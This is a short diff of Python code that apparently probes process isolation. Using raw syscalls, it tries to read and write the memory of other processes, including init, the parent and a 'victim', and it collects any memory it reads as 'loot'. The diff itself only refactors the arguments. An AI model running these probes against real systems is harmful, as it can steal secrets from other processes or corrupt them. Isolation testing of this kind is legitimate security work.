@@ -16,13 +16,15 @@ for number in {1, os.getppid(), aim.victim, os.getpid()} - {0}:
     for address in (ctypes.addressof(buffer), 0x400000):
         remote = (ctypes.c_size_t * 2)(address, 7)
         for name, call in (("read", READ), ("write", WRITE)):
-            done = libc.syscall(ctypes.c_long(call), ctypes.c_long(number), local, ctypes.c_long(1), remote, ctypes.c_long(1), ctypes.c_long(0))
+            words = (ctypes.c_long(number), local, ctypes.c_long(1), remote, ctypes.c_long(1), ctypes.c_long(0))
+            done = libc.syscall(ctypes.c_long(call), *words)
             if done > 0:
                 gained(f"{name} {done} bytes of {number}")
                 loot(buffer.raw)
             else:
                 tried(f"{name} of {number}: {os.strerror(ctypes.get_errno())}")
 for name, number in (("process_madvise", PROCESS_MADVISE), ("process_mrelease", PROCESS_MRELEASE)):
-    if libc.syscall(ctypes.c_long(number), ctypes.c_long(3), local, ctypes.c_long(1), ctypes.c_long(4), ctypes.c_long(0)) >= 0:
+    words = (ctypes.c_long(3), local, ctypes.c_long(1), ctypes.c_long(4), ctypes.c_long(0))
+    if libc.syscall(ctypes.c_long(number), *words) >= 0:
         gained(f"{name} went well")
     tried(name)
